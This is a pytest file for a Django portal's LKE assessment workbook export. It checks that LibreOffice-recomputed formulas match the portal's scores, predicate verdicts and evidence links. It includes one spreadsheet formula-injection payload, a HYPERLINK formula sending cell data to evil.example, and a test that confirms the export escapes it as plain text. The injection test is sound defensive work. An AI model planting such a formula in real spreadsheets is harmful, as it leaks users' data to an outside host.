"""The official LKE workbook: its formulas, recomputed by LibreOffice, give the portal's scores.

LibreOffice (Debian `libreoffice-calc-nogui`) recomputes a copy of the workbook written without
the engine's values, so nothing is read back that was not recomputed; CI installs it (.ci/run)
and there a missing soffice fails the test instead of skipping it.
"""

import io
import os
import shutil
import subprocess
from decimal import Decimal

import openpyxl
import pytest

from areas import scoring
from areas.models import Question
from areas.results import display
from assessments.models import Answer, Evidence, Layer, Status
from assessments.worksheet.scores import instrument_of, layer_results
from reports.lke_workbook import (
    SPREADSHEET_FORMULAS,
    render_workbook,
    workbook_data,
    workbook_filename,
)
from tests.assessments.helpers import answer_all

LAYERS = [Layer.SELF, Layer.PRELIMINARY, Layer.TPI, Layer.TPN]
EXACT = 1e-9
# Counts that exercise each numeric formula's edges: an empty denominator (scores 1 or 0 as
# the regulation says), more done than asked (capped at 100 %), and plain ratios.
INPUTS = {
    "R1.1.a": {"agents": 12, "changes": 7},
    "R1.1.b": {"changes": 0, "integrated": 0},
    "R3.3.a": {"violations_last_year": 0, "violations_this_year": 0, "violations_sanctioned": 0},
    "R4.1.a": {"targets": 9, "achieved": 7},
    "R5.2.a": {"to_follow_up": 0, "in_process": 0, "completed": 0},
    "R5.3.a": {"obliged": 30, "filed": 31},
    "R5.3.b": {"obliged": 7, "filed": 3},
    "R6.1.b": {"registered": 11, "simplified": 4},
}
HASIL_I = "Hasil I: Birokrasi yang bersih dan akuntabel"
HASIL_II = "Hasil II: Pelayanan publik yang prima"
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


def soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        message = "LibreOffice (soffice) is needed to recompute the workbook's formulas"
        if os.environ.get("CI"):
            pytest.fail(message + "; .ci/run installs libreoffice-calc-nogui")
        pytest.skip(message)
    return found


RECALC_ALWAYS = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry"
 xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load">
 <prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
<item oor:path="/org.openoffice.Office.Calc/Formula/Load">
 <prop oor:name="ODFRecalcMode" oor:op="fuse"><value>0</value></prop></item>
</oor:items>
"""


def recalculated(xlsx: bytes, tmp_path) -> openpyxl.Workbook:
    """The workbook after LibreOffice recomputed every formula (a private profile that always
    recalculates on load) and saved it again, read with the values it computed."""
    binary = soffice()
    profile = tmp_path / "lo-profile"
    (profile / "user").mkdir(parents=True, exist_ok=True)
    (profile / "user" / "registrymodifications.xcu").write_text(RECALC_ALWAYS)
    source, out = tmp_path / "in" / "lke.xlsx", tmp_path / "out"
    source.parent.mkdir(exist_ok=True)
    out.mkdir(exist_ok=True)
    source.write_bytes(xlsx)
    subprocess.run(
        [binary, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
         "--convert-to", "xlsx", "--outdir", str(out), str(source)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    return openpyxl.load_workbook(out / "lke.xlsx", data_only=True)


def varied(question: Question):
    """Every kind of answer: options below the best, percents above 100, raw counts."""
    if question.code in INPUTS:
        return {"inputs": INPUTS[question.code]}
    options = sorted(question.options.all(), key=lambda o: o.score)
    if options:
        return options[len(question.code) % len(options)].label
    if question.answer_type == "survey_index":
        return 3.8 if question.code.startswith("H1") else 3.5
    return 87.5 if question.code.endswith("a") else 120


def second_best(question: Question):
    options = sorted(question.options.all(), key=lambda o: -o.score)
    if options:
        return options[min(1, len(options) - 1)].label
    return 3.5 if question.answer_type == "survey_index" else 80


@pytest.fixture
def filled(assessment, personas):
    answer_all(assessment, Layer.SELF, personas["operator"], through_service=False)
    answer_all(
        assessment, Layer.PRELIMINARY, personas["reviewer"], value_for=second_best,
        through_service=False,
    )  # fmt: skip
    answer_all(assessment, Layer.TPI, personas["tpi"], value_for=varied, through_service=False)
    # TPN has answered part of the LKE only: unanswered items score 0 in the spreadsheet too.
    answer_all(assessment, Layer.TPN, personas["tpn"], value_for=varied, through_service=False)
    assessment.answers.filter(layer=Layer.TPN, question__code__startswith="P3").delete()
    assessment.answers.filter(layer=Layer.TPN, question__code__in=["R1.1.a", "H1.1.a"]).delete()
    assessment.answers.filter(layer=Layer.TPI, question__code="P1.1.a").update(note=HOSTILE_NOTE)
    Evidence.objects.create(
        assessment=assessment, kind="answer", question=Question.objects.get(
            version=assessment.period.lke_version, code="P1.1.a"),
        url="https://kemenag.go.id/zi/sk-tim.pdf", uploaded_by=personas["operator"],
        original_name="SK Tim ZI.pdf",
    )  # fmt: skip
    assessment.status = Status.PROPOSED
    assessment.save()
    return assessment


def rekap_values(book) -> dict:
    """{(label, part): [value per layer]} of the Rekap sheet, plus each area's four rows."""
    sheet = book[book.sheetnames[0]]
    rows = list(sheet.iter_rows(values_only=True))
    header = next(i for i, r in enumerate(rows) if r[0] == "No.")
    out, area = {}, None
    end = next(i for i, r in enumerate(rows) if r[0] == "C. SYARAT PREDIKAT")
    for row in rows[header + 1 : end]:
        if isinstance(row[0], str) and row[0].isdigit():
            area = int(row[0])
        label = (f"area {area}", row[2]) if row[2] else (row[1], None)
        if row[4] is not None and label[0]:
            out[label] = list(row[4:8])
    return out


def predicate_verdicts(book) -> dict[str, list[tuple[str, list]]]:
    """{predicate: [(rule label, [Ya/Tidak per layer]), ..., ("Memenuhi syarat …", [...])]}."""
    rows = list(book[book.sheetnames[0]].iter_rows(values_only=True))
    start = next(i for i, r in enumerate(rows) if r[0] == "C. SYARAT PREDIKAT")
    out, current = {}, []
    for row in rows[start + 1 :]:
        if row[1] is None:
            break
        current.append((row[1], list(row[4:8])))
        if row[1].startswith("Memenuhi syarat "):
            out[row[1].removeprefix("Memenuhi syarat ")] = current
            current = []
    return out


def item_scores(book) -> dict:
    """{(code, layer index): score} read from the area and Hasil sheets."""
    out = {}
    for name in book.sheetnames[1:-1]:
        for row in book[name].iter_rows(min_row=6, values_only=True):
            code = row[0]
            if isinstance(code, str) and code[:1] in "PRH" and "." in code:
                for index in range(4):
                    out[(code, index)] = row[3 + 3 * index + 1]
    return out


def assert_close(got, want: Decimal, what: str) -> None:
    assert got is not None, what
    assert abs(float(got) - float(want)) <= EXACT, f"{what}: {got} != {want}"


def test_every_numeric_formula_of_the_engine_has_a_spreadsheet_twin():
    assert set(SPREADSHEET_FORMULAS) == set(scoring.FORMULAS)


def test_libreoffice_recomputes_the_portals_scores_from_the_workbooks_formulas(filled, tmp_path):
    data = workbook_data(assessment=filled, reader=None, layers=LAYERS)
    book = recalculated(render_workbook(data, cached=False), tmp_path)
    results = layer_results(filled, LAYERS)
    assert len({r.total for r in results.values()}) == 4  # each layer differs from the others
    rekap = rekap_values(book)
    for index, layer in enumerate(LAYERS):
        result = results[layer]
        for area in result.areas:
            values = {
                "Pemenuhan": area.pemenuhan, "Reform": area.reform, "Total": area.total,
                "Persentase (%)": area.percent,
            }  # fmt: skip
            for part, want in values.items():
                got = rekap[(f"area {area.number}", part)][index]
                assert_close(got, want, f"{layer} area {area.number} {part}")
        for label, want in (
            ("Pemenuhan", result.pemenuhan), ("Reform", result.reform),
            ("Pengungkit", result.pengungkit), ("Hasil", result.hasil),
            ("NILAI TOTAL", result.total),
            (HASIL_I, result.hasil_detail["birokrasi_bersih"]),
            ("IPAK (survei persepsi korupsi)", result.hasil_detail["ipak"]),
            ("Capaian kinerja", result.hasil_detail["capaian"]),
            (HASIL_II, result.hasil_detail["pelayanan_prima"]),
        ):  # fmt: skip
            assert_close(rekap[(label, None)][index], want, f"{layer} {label}")
        # What the portal displays (2 decimals) is what the spreadsheet displays.
        assert round(float(rekap[("NILAI TOTAL", None)][index]), 2) == display(result.total)


def test_libreoffice_recomputes_each_predicate_rule_as_the_engine_judges_it(filled, tmp_path):
    data = workbook_data(assessment=filled, reader=None, layers=LAYERS)
    book = recalculated(render_workbook(data, cached=False), tmp_path)
    results = layer_results(filled, LAYERS, prior_predicate=None)
    verdicts = predicate_verdicts(book)
    assert set(verdicts) == {"WBK", "WBBM"}
    seen = set()
    for index, layer in enumerate(LAYERS):
        for name, predicate in results[layer].predicates.items():
            rows = verdicts[name]
            want = ["Ya" if rule.passed else "Tidak" for rule in predicate.rules]
            assert [values[index] for _label, values in rows[:-1]] == want, (layer, name)
            assert rows[-1][1][index] == ("Ya" if predicate.eligible else "Tidak")
            seen.add(predicate.eligible)
    assert seen == {True, False}  # some layer meets a predicate, some does not


def test_each_items_score_is_recomputed_from_its_answer(filled, tmp_path):
    data = workbook_data(assessment=filled, reader=None, layers=LAYERS)
    book = recalculated(render_workbook(data, cached=False), tmp_path)
    instrument = instrument_of(filled)
    results = layer_results(filled, LAYERS)
    scores = item_scores(book)
    assert len(scores) == instrument.item_count * 4
    for index, layer in enumerate(LAYERS):
        answers = dict(
            Answer.objects.filter(assessment=filled, layer=layer).values_list(
                "question__code", "value"
            )
        )
        for spec in instrument.questions:
            want = results[layer].question_scores.get(spec.code, Decimal(0))
            assert_close(scores[(spec.code, index)], want, f"{layer} {spec.code}")
        for item in instrument.hasil:
            raw = answers.get(item.code)
            want = scoring.hasil_points(instrument, item.code, raw) if raw is not None else 0
            assert_close(scores[(item.code, index)], Decimal(want), f"{layer} {item.code}")


def test_viewers_without_recalculation_see_the_engines_values(filled):
    data = workbook_data(assessment=filled, reader=None, layers=LAYERS)
    book = openpyxl.load_workbook(io.BytesIO(render_workbook(data)), data_only=True)
    results = layer_results(filled, LAYERS)
    rekap = rekap_values(book)
    for index, layer in enumerate(LAYERS):
        assert_close(rekap[("NILAI TOTAL", None)][index], results[layer].total, layer)
        assert_close(rekap[("Pengungkit", None)][index], results[layer].pengungkit, layer)


def test_text_typed_by_people_stays_text_and_links_are_absolute(filled):
    data = workbook_data(assessment=filled, reader=None, layers=LAYERS)
    book = openpyxl.load_workbook(io.BytesIO(render_workbook(data)))
    sheet = book["Area 1"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    note = next(c for c in cells if isinstance(c.value, str) and "evil.example" in c.value)
    assert note.data_type == "s" and note.value == "'" + HOSTILE_NOTE
    assert any("https://kemenag.go.id/zi/sk-tim.pdf" in str(c.value) for c in cells)
    links = book["Data dukung"]
    assert [c.hyperlink.target for c in links["D"] if c.hyperlink] == [
        "https://kemenag.go.id/zi/sk-tim.pdf"
    ]


def test_the_workbook_holds_only_the_layers_given(filled):
    data = workbook_data(assessment=filled, reader=None, layers=[Layer.SELF, Layer.PRELIMINARY])
    book = openpyxl.load_workbook(io.BytesIO(render_workbook(data)))
    header = [c.value for c in book["Area 1"][5] if c.value]
    assert header.count("Nilai") == 2
    assert book["Rekap"]["A1"].value == "LKE hasil penilaian"
    assert workbook_filename(filled) == f"LKE-KKA-{filled.period.year}.xlsx"


def test_workbook_data_reads_in_a_fixed_number_of_queries(
    filled, personas, django_assert_max_num_queries
):
    question = Question.objects.get(version=filled.period.lke_version, code="P2.1.a")
    Evidence.objects.bulk_create(
        Evidence(assessment=filled, kind="answer", question=question,
                 uploaded_by=personas["operator"], url=f"https://kemenag.go.id/{n}.pdf")
        for n in range(30)
    )  # fmt: skip
    workbook_data(assessment=filled, reader=personas["tpi"], layers=LAYERS)  # warm the instrument
    with django_assert_max_num_queries(4):
        data = workbook_data(assessment=filled, reader=personas["tpi"], layers=LAYERS)
    assert len(data.evidence["P2.1.a"]) == 30


def test_an_uploaded_file_is_linked_through_the_portals_authorised_download(
    filled, personas, settings
):
    settings.PORTAL_BASE_URL = "https://zi.kemenag.go.id"
    item = Evidence.objects.create(
        assessment=filled, kind="answer", uploaded_by=personas["operator"],
        question=Question.objects.get(version=filled.period.lke_version, code="R1.1.a"),
        file="evidence/2026/01/acak.pdf", original_name="Daftar agen perubahan.pdf",
    )  # fmt: skip
    data = workbook_data(assessment=filled, reader=personas["tpi"], layers=LAYERS)
    book = openpyxl.load_workbook(io.BytesIO(render_workbook(data)))
    url = f"https://zi.kemenag.go.id/assessments/{filled.pk}/evidence/{item.pk}/download/"
    assert url in [c.hyperlink.target for c in book["Data dukung"]["D"] if c.hyperlink]
    cells = [c.value for row in book["Area 1"].iter_rows() for c in row]
    assert f"Daftar agen perubahan.pdf [Belum diperiksa]: {url}" in cells
